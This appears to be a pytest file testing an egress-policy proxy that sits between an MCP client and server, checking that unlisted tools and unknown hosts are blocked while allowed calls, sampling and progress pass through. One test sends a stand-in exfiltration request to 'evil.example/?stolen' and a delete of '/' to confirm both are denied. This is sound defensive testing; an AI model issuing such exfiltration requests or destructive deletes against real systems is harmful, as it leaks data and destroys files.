"""The official Python SDK of MCP, client and server, with `trio-egress mcp` between them on standard streams."""

from __future__ import annotations

import asyncio
import os
import select
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp import ClientSession, MCPError, StdioServerParameters
from mcp.client.stdio import stdio_client
from tests.programs.jobs import USUAL
from tests.runs.launch import (
    ENVIRONMENT,
    PATIENCE_SECONDS,
    POLICY_HEAD,
    Place,
    find_processes,
    read_receipts,
    verify,
)

pytestmark = [pytest.mark.sandbox, pytest.mark.programs]

SERVER = """
import urllib.request
from mcp.server.mcpserver import Context, MCPServer
from mcp_types import SamplingMessage, TextContent

server = MCPServer("things")

@server.tool()
def add(a: int, b: int) -> int:
    "Add two numbers."
    return a + b

@server.tool()
def delete(path: str) -> str:
    "Delete a file."
    open("deleted", "w").close()
    return path

@server.tool()
def fetch(url: str) -> str:
    "Fetch a page."
    try:
        return urllib.request.urlopen(url, timeout=100).read().decode()
    except OSError as error:
        return f"not fetched: {error}"

@server.tool()
async def count(ctx: Context) -> str:
    "Count, telling of it."
    for number in range(3):
        await ctx.report_progress(number, 3)
    return "done"

@server.tool()
async def think(ctx: Context) -> str:
    "Ask the client's model."
    asked = SamplingMessage(role="user", content=TextContent(type="text", text="well?"))
    said = await ctx.session.create_message(messages=[asked], max_tokens=10)
    return said.content.text

server.run()
"""

TABLE = '[mcp]\ntools = ["add", "fetch", "count", "think"]\n'


class Session:
    """What a test asks of a server, and where its evidence is."""

    def __init__(self, client: ClientSession, place: Place) -> None:
        self.client = client
        self.place = place

    async def call(self, tool: str, **arguments: object) -> str:
        answer = await self.client.call_tool(tool, arguments)
        text = answer.content[0]
        assert isinstance(text, types.TextContent)
        return text.text


async def _sample(context: Any, params: types.CreateMessageRequestParams) -> types.CreateMessageResult:
    said = types.TextContent(type="text", text="words of a model")
    return types.CreateMessageResult(role="assistant", content=said, model="none")


@asynccontextmanager
async def connect(place: Place, policy: str, *, initialize: bool = True) -> AsyncIterator[Session]:
    """As a client does that has our command before the server's."""
    program = place.write("server.py", SERVER)
    place.write("policy-0.toml", policy)
    ours = place.program("mcp", 0)
    server = StdioServerParameters(
        command=ours[0],
        args=[*ours[1:], "--", sys.executable, "-I", str(program)],
        env={**ENVIRONMENT, **USUAL},
        cwd=place.work,
    )
    with (place.path / "err-0").open("w") as errors:
        async with (
            stdio_client(server, errlog=errors) as (reads, writes),
            ClientSession(
                reads, writes, read_timeout_seconds=PATIENCE_SECONDS, sampling_callback=_sample
            ) as client,
        ):
            if initialize:
                await client.initialize()
            yield Session(client, place)


def drive(place: Place, policy: str, use: Callable[[Session], Awaitable[None]]) -> Path:
    """The evidence of a whole session; it verifies."""

    async def main() -> None:
        async with connect(place, policy) as session:
            await use(session)

    asyncio.run(main())
    print((place.path / "err-0").read_text())
    evidence = place.path / "evidence-0"
    assert verify(evidence, place.key.public_hex) == 0
    return evidence


def test_client_and_server_work_as_without_us(place: Place) -> None:
    async def use(session: Session) -> None:
        tools = await session.client.list_tools()
        assert [tool.name for tool in tools.tools] == ["add", "delete", "fetch", "count", "think"]
        assert await session.call("add", a=2, b=40) == "42"
        assert await session.call("think") == "words of a model"
        told: list[float] = []

        async def tell(progress: float, total: float | None, message: str | None) -> None:
            told.append(progress)

        await session.client.call_tool("count", {}, progress_callback=tell)
        assert told == [0, 1, 2]

    evidence = drive(place, POLICY_HEAD, use)
    told = {(r.facts["from"], r.target) for r in read_receipts(evidence) if r.phase == "outcome"}
    assert told == {
        ("client", "mcp:initialize"),
        ("client", "mcp:notifications/initialized"),
        ("client", "mcp:tools/list"),
        ("client", "mcp:tools/call:add"),
        ("client", "mcp:tools/call:think"),
        ("client", "mcp:tools/call:count"),
        ("server", "mcp:sampling/createMessage"),
        ("server", "mcp:notifications/progress"),
    }


def test_what_is_denied_is_an_error_in_words_and_the_session_goes_on(place: Place) -> None:
    async def use(session: Session) -> None:
        with pytest.raises(
            MCPError, match=r'denied by the egress policy: \[mcp\] .* names no "delete" in tools'
        ):
            await session.call("delete", path="/")
        assert "not fetched" in await session.call("fetch", url="http://evil.example/?stolen")
        assert await session.call("add", a=1, b=1) == "2"
        assert find_processes(str(place.path / "server.py")) != []

    evidence = drive(place, POLICY_HEAD + TABLE, use)
    assert not (place.work / "deleted").exists()
    assert find_processes(str(place.path / "server.py")) == []
    denied = {(r.transport, r.target) for r in read_receipts(evidence) if r.verdict == "block"}
    assert denied == {("mcp_stdio", "mcp:tools/call:delete"), ("dns", "dns:evil.example")}


CLIENT = """
import asyncio, sys
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

async def main():
    server = StdioServerParameters(command=sys.argv[1], args=sys.argv[2:])
    async with stdio_client(server) as (reads, writes), ClientSession(reads, writes) as client:
        await client.initialize()
        print("initialized", flush=True)
        await asyncio.sleep(10000)

asyncio.run(main())
"""


def test_a_client_that_is_killed_takes_its_server_with_it(place: Place) -> None:
    client, server = place.write("client.py", CLIENT), place.write("server.py", SERVER)
    place.write("policy-0.toml", POLICY_HEAD)
    command = [sys.executable, str(client), *place.program("mcp", 0), "--", sys.executable, "-I", str(server)]
    with subprocess.Popen(
        command, cwd=place.work, env={**ENVIRONMENT, **USUAL}, stdout=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"initialized\n"
        descriptors = [os.pidfd_open(pid) for pid in find_processes(str(place.path / "evidence-0"))]
        process.kill()
    for descriptor in descriptors:
        _wait_end(descriptor)
    assert find_processes(str(server)) == []
    assert verify(place.path / "evidence-0", place.key.public_hex) == 0


def _wait_end(descriptor: int) -> None:
    poll = select.poll()
    poll.register(descriptor, select.POLLIN)
    assert poll.poll(PATIENCE_SECONDS * 1000)
    os.close(descriptor)
